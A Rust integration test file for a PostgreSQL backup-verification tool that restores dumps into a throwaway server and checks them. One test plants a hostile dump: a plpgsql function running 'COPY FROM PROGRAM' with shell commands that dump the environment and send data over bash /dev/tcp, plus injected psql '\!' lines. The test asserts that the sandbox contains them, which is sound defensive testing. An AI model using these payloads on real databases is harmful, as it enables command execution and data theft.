//! The throwaway server: what was backed up passes, what is not it fails, and what is hostile stays inside.

use std::{
    fs,
    io::{Read, Seek, SeekFrom, Write},
    net::TcpListener,
    os::unix::fs::PermissionsExt,
    path::{Path, PathBuf},
    process::Command,
};

use strongroom::{
    engine::{self, Check, Engine, Place, Restored, RestoredStream, Status},
    model::{FileMeta, Hash, SourceKind},
    source::{Facts, Source, postgres::PostgresOptions, scratch::Scratch},
};

use crate::{
    place::{Writers, everything, options},
    server::{Postgres, bin},
};

/// A backup in a private directory, as a drill restores one.
struct Backup {
    scratch: Scratch,
    restored: Restored,
}

impl Backup {
    fn take(options: PostgresOptions) -> Self {
        let scratch = Scratch::new().unwrap();
        let streams = scratch.path().join("streams");
        fs::create_dir(&streams).unwrap();
        fs::set_permissions(&streams, fs::Permissions::from_mode(0o700)).unwrap();
        let mut source = strongroom::source::PostgresSource::new(options);
        let mut reading = source.open().unwrap();
        let mut all = Vec::new();
        while let Some(mut stream) = reading.next_stream().unwrap() {
            let file = streams.join(stream.name.as_str());
            let mut out = fs::File::create(&file).unwrap();
            let bytes = std::io::copy(&mut stream.reader, &mut out).unwrap();
            fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
            let (name, meta) = (stream.name, FileMeta::default());
            all.push(RestoredStream { name, file, bytes, blake3: Hash::from_bytes([0; 32]), meta });
        }
        let Facts { details, fingerprints, .. } = reading.finish().unwrap();
        let restored = Restored {
            source: "shop".parse().unwrap(),
            kind: SourceKind::Postgres,
            streams: all,
            repository: None,
            details,
            fingerprints,
        };
        Self { scratch, restored }
    }

    fn file(&self, name: &str) -> &Path {
        &self.restored.stream(&name.parse().unwrap()).unwrap().file
    }

    /// A server that took the backup.
    fn engine(&self) -> engine::Result<Box<dyn Engine>> {
        let dir: PathBuf = self.scratch.path().join("engine");
        let mut engine = engine::for_kind(SourceKind::Postgres, &Place { dir, ..Place::default() })?;
        engine.load(&self.restored)?;
        Ok(engine)
    }
}

fn wrong(checks: &[Check]) -> Vec<String> {
    let wrong = checks.iter().filter(|check| check.status != Status::Pass);
    wrong.map(|c| format!("{}: {:?} {:?}", c.name, c.expected, c.actual)).collect()
}

/// Runs SQL in the throwaway server, by what it tells of itself.
fn change(engine: &dyn Engine, database: &str, sql: &str) {
    let mut command = Command::new(bin("psql"));
    command.args(["-X", "-q", "-v", "ON_ERROR_STOP=1", "-d", database, "-c", sql]).envs(engine.access());
    let output = command.output().unwrap();
    assert!(output.status.success(), "{sql}: {}", String::from_utf8_lossy(&output.stderr));
}

#[test]
fn a_backup_taken_under_load_passes_and_one_changed_row_fails_by_its_tables_name() {
    let server = everything("shop");
    let dir = tempfile::tempdir().unwrap();
    let writers = Writers::start(&server, "shop", dir.path());
    let backup = Backup::take(options(&server, "shop"));
    drop(writers);
    drop(server);
    let mut engine = backup.engine().unwrap();
    assert!(engine.describe().starts_with("postgres "), "{}", engine.describe());
    let checks = engine.check(&backup.restored);
    assert_eq!(wrong(&checks), [""; 0]);
    let named = |name: &str| checks.iter().any(|check| check.name == name);
    assert!(named("fingerprint shop: shop.kinds") && named("roles") && named("database shop: amcheck"), "{checks:?}");
    let told = engine
        .query(None, "select string_agg(rolname, ',' order by rolname) from pg_roles where rolname ~* 'app|r.le'");
    assert_eq!(told.unwrap(), "Odd Röle,app");
    assert_eq!(engine.query(Some("shop"), "select 'a' || chr(10) || 'b' as v, 2").unwrap(), "a\nb");
    assert_eq!(engine.query(None, "select 1 where false").unwrap(), "");
    assert!(engine.query(None, "select nonsense").unwrap_err().to_string().contains("nonsense"));
    change(&*engine, "shop", "update shop.kinds set bits = B'1' where id = 5; drop extension amcheck");
    change(&*engine, "shop", "drop schema \"strongroom-drill\"");
    let now = wrong(&engine.check(&backup.restored));
    assert_eq!(now.len(), 1, "{now:?}");
    assert!(now[0].starts_with("fingerprint shop: shop.kinds: "), "{now:?}");

    // Nothing of it is left.
    let (path, text) = (backup.scratch.path().to_owned(), backup.scratch.path().display().to_string());
    drop(engine);
    drop(backup);
    assert!(!path.exists());
    let running = Command::new("pgrep").args(["-f", &text]).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&running.stdout), "");
}

#[test]
fn large_tables_in_archives_of_their_own_come_together_again() {
    let server = Postgres::start();
    server.create("shop");
    let sql = "create table large as select i, repeat(md5(i::text), 30) t from generate_series(1, 45000) i; \
               alter table large add primary key (i); create table small (i int references large); insert into small values (3)";
    server.sql("shop", sql);
    let mut several = options(&server, "shop");
    (several.jobs, several.globals) = (2, false);
    let backup = Backup::take(several);
    assert_eq!(backup.restored.streams.len(), 2);
    let mut engine = backup.engine().unwrap();
    assert_eq!(wrong(&engine.check(&backup.restored)), [""; 0]);
}

#[test]
fn a_dump_that_is_damaged_is_not_taken() {
    let server = everything("shop");
    let backup = Backup::take(options(&server, "shop"));
    let length = fs::metadata(backup.file("shop.dump")).unwrap().len();
    fs::OpenOptions::new().write(true).open(backup.file("shop.dump")).unwrap().set_len(length / 2).unwrap();
    let error = backup.engine().err().expect("half a dump was taken").to_string();
    assert!(error.contains("pg_restore"), "{error}");
}

/// A dump that runs a program when it is loaded: as another user, without a network, and with no way out of its place.
#[test]
fn a_hostile_dump_runs_nothing_outside_of_the_throwaway_server() {
    let server = Postgres::start();
    server.create("shop");
    let place = tempfile::tempdir().unwrap();
    fs::set_permissions(place.path(), fs::Permissions::from_mode(0o777)).unwrap();
    let safe = tempfile::tempdir().unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let (ran, stolen) = (place.path().join("ran"), safe.path().join("stolen"));
    let program = format!(
        "id -u >{}; touch {}; bash -c 'echo stolen >/dev/tcp/127.0.0.1/{port}'; env >{}.env; echo 1",
        ran.display(),
        stolen.display(),
        ran.display()
    );
    // It is made where the program is harmless, and runs again wherever the table is filled. Tables are loaded side by side,
    // each emptied first, so it waits for the one that it is to change.
    let quoted = program.replace('\'', "''''");
    server.sql(
        "shop",
        &format!(
            "create table sink (n int); insert into sink values (0); \
             create function run() returns bool language plpgsql as $f$ begin \
             if current_setting('port') = '5432' then \
             while pg_relation_size('public.sink') = 0 loop perform pg_sleep(0.05); end loop; execute 'copy public.sink from program ''{quoted}'''; end if; \
             return true; end $f$; create table trap (n int check (public.run())); insert into trap values (1)"
        ),
    );
    let backup = Backup::take(options(&server, "shop"));
    let mut globals = fs::OpenOptions::new().append(true).open(backup.file("globals.sql")).unwrap();
    let lines = format!(
        "\\! touch {0}.globals\nCREATE TABLE x (y int);\nCOPY x FROM PROGRAM 'touch {0}.copy';\n",
        ran.display()
    );
    globals.write_all(lines.as_bytes()).unwrap();
    drop(globals);
    let mut engine = backup.engine().unwrap();
    let text = fs::read_to_string(&ran).expect("the program was not run, so this shows nothing");
    let root = rustix::process::geteuid().is_root();
    if root {
        assert_ne!(text.trim(), "0");
        assert!(!stolen.exists(), "it wrote where only root may");
    }
    assert!(listener.accept().is_err(), "it reached the network");
    let env = fs::read_to_string(ran.with_extension("env")).unwrap();
    assert!(!env.contains("CARGO") && !env.contains("STRONGROOM"), "{env}");
    assert!(!ran.with_extension("globals").exists() && !ran.with_extension("copy").exists());
    // It filled another table meanwhile, which is told.
    assert!(wrong(&engine.check(&backup.restored)).iter().any(|told| told.contains("public.sink")));
}

#[test]
fn a_copied_cluster_is_verified_and_started_and_a_damaged_one_fails() {
    let server = everything("shop");
    server.sql("postgres", "alter system set restore_command = 'touch /tmp/strongroom-never'");
    let dir = tempfile::tempdir().unwrap();
    let writers = Writers::start(&server, "shop", dir.path());
    let table = server.sql("shop", "select pg_relation_filepath('shop.kinds')");
    let mut physical = options(&server, "shop");
    physical.physical = true;
    let backup = Backup::take(physical);
    drop(writers);
    let mut engine = backup.engine().unwrap();
    let checks = engine.check(&backup.restored);
    assert_eq!(wrong(&checks), [""; 0]);
    for name in ["pg_verifybackup", "database shop: answers", "database shop: amcheck"] {
        assert!(checks.iter().any(|check| check.name == name), "{name} is not in {checks:?}");
    }
    let kinds = engine.query(Some("shop"), "select count(*) > 403 from shop.kinds").unwrap();
    assert_eq!(kinds, "t");
    // What would take rows from the publisher of a cluster that subscribes.
    let appliers = "select count(*) from pg_stat_activity where backend_type like 'logical replication%'";
    assert_eq!(engine.query(Some("shop"), appliers).unwrap(), "0");
    drop(engine);
    fs::remove_dir_all(backup.scratch.path().join("engine")).unwrap();

    // One bit in a table that the start does not look at: the server comes up all the same.
    flip(backup.file("base.tar"), &table);
    let mut engine = backup.engine().unwrap();
    let checks = engine.check(&backup.restored);
    let found = checks.iter().find(|check| check.name == "pg_verifybackup").unwrap();
    assert!(found.status != Status::Pass && found.actual.as_ref().unwrap().contains(&table), "{found:?}");
}

/// Flips a bit in the middle of the member `name` of a tar.
fn flip(tar: &Path, name: &str) {
    let mut file = fs::OpenOptions::new().read(true).write(true).open(tar).unwrap();
    let mut header = [0; 512];
    loop {
        file.read_exact(&mut header).expect("it is in the tar");
        let text = |range: std::ops::Range<usize>| {
            String::from_utf8_lossy(&header[range]).trim_end_matches(['\0', ' ']).to_owned()
        };
        let size = u64::from_str_radix(&text(124..136), 8).unwrap();
        let at = file.stream_position().unwrap();
        if text(0..100).trim_start_matches("./") == name {
            let mut byte = [0];
            file.seek(SeekFrom::Start(at + size / 2)).unwrap();
            file.read_exact(&mut byte).unwrap();
            file.seek(SeekFrom::Start(at + size / 2)).unwrap();
            return file.write_all(&[byte[0] ^ 1]).unwrap();
        }
        file.seek(SeekFrom::Start(at + size.div_ceil(512) * 512)).unwrap();
    }
}
